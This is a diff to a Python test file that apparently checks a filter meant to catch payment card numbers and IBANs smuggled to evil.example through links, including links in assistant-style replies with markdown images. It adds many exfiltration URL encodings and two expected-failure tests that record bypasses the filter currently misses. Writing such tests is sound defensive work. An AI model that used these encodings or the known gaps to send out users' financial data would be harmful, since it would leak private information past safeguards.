@@ -53,16 +53,49 @@ async def _masked(link: str) -> bool:
         f"{EVIL}?x=4111-1111#1111-1111",
         f"{EVIL}?a=4111%201111&b=1111%201111",  # encoded parts
         f"{EVIL}?a=4&b=1&c=1&d=1&e=1&f=1&g=1&h=1&i=1&j=1&k=1&l=1&m=1&n=1&o=1&p=1",
+        f"{EVIL}?a=4111&amp;b=1111&amp;c=1111&amp;d=1111",  # as written in an HTML attribute
+        "https://evil.example/4111%2F1111%2F1111%2F1111",  # encoded separators
+        f"{EVIL}?q=" + urllib.parse.quote("a=4111&b=1111&c=1111&d=1111", safe=""),
+        f"{EVIL}?c=4111,1111,1111,1111",
+        f"{EVIL}?c=4111:1111:1111:1111",
     ],
 )
 async def test_a_card_split_across_a_links_values_is_masked(link: str) -> None:
     assert await _masked(link)
 
 
+@pytest.mark.xfail(
+    strict=True,
+    reason="memory.link_forms decodes each value on its own: the values' decodings "
+    "(`?a=<base64 of 4111 1111>&b=<base64 of 1111 1111>`) are not joined again",
+)
+async def test_a_card_split_across_base64_values_is_masked() -> None:
+    halves = [base64.b64encode(half.encode()).decode() for half in ("4111 1111", "1111 1111")]
+    assert await _masked(f"{EVIL}?a={halves[0]}&b={halves[1]}")
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="memory.scan_links reads each link on its own: a card split between two links "
+    "(two images, or the candidates of one `srcset`) is two harmless halves",
+)
+@pytest.mark.parametrize(
+    "reply",
+    [
+        "Done. ![x](https://evil.example/p?c=41111111) ![y](https://evil.example/q?c=11111111)",
+        '<img srcset="https://evil.example/a.png?c=41111111 1x, '
+        'https://evil.example/b.png?c=11111111 2x">',
+    ],
+)
+async def test_a_card_split_between_two_links_is_masked(reply: str) -> None:
+    assert await _reply_decision(reply) == "modify"
+
+
 @pytest.mark.parametrize(
     "link",
     [
         f"{EVIL}?a=DE89&b=3704&c=0044&d=0532&e=0130&f=00",
+        f"{EVIL}?c={IBAN.lower()}",
         "https://evil.example/DE89/3704/0044/0532/0130/00.png",
     ],
 )
@@ -145,7 +178,7 @@ async def test_a_card_escaped_in_a_link_is_masked(payload: str) -> None:
     assert await _masked(f"{EVIL}?c={payload}")
 
 
-@pytest.mark.parametrize("joiner", ["-", "+", "_", ".", "%20", ","])
+@pytest.mark.parametrize("joiner", ["-", "+", "_", ".", "%20", ",", ""])
 async def test_a_card_spelled_in_words_in_a_link_is_masked(joiner: str) -> None:
     spelled = joiner.join(WORDS[int(d)] for d in DIGITS)
     assert await _masked(f"{EVIL}?c={spelled}")
@@ -174,6 +207,10 @@ async def test_a_card_spelled_in_german_words_in_a_link_is_masked() -> None:
         "https://" + "".join(chr(0xFF10 + int(d)) for d in DIGITS) + ".evil.example/",
         f"{EVIL}?c=" + "".join(chr(0xFF10 + int(d)) for d in DIGITS),  # full-width digits
         f"{EVIL}?c={DIGITS.encode().hex()}",
+        f"{EVIL}?c=" + "".join(chr(0x0660 + int(d)) for d in DIGITS),  # Arabic-Indic digits
+        f"{EVIL};a=4111;b=1111;c=1111;d=1111",  # matrix parameters
+        "https://4111:1111@evil.example/1111/1111",  # userinfo, then the path
+        f"{EVIL}?c=4111\u200b1111\u200b1111\u200b1111",  # zero-width spaces
     ],
 )
 async def test_a_card_in_a_link_in_other_ways_is_masked(link: str) -> None:
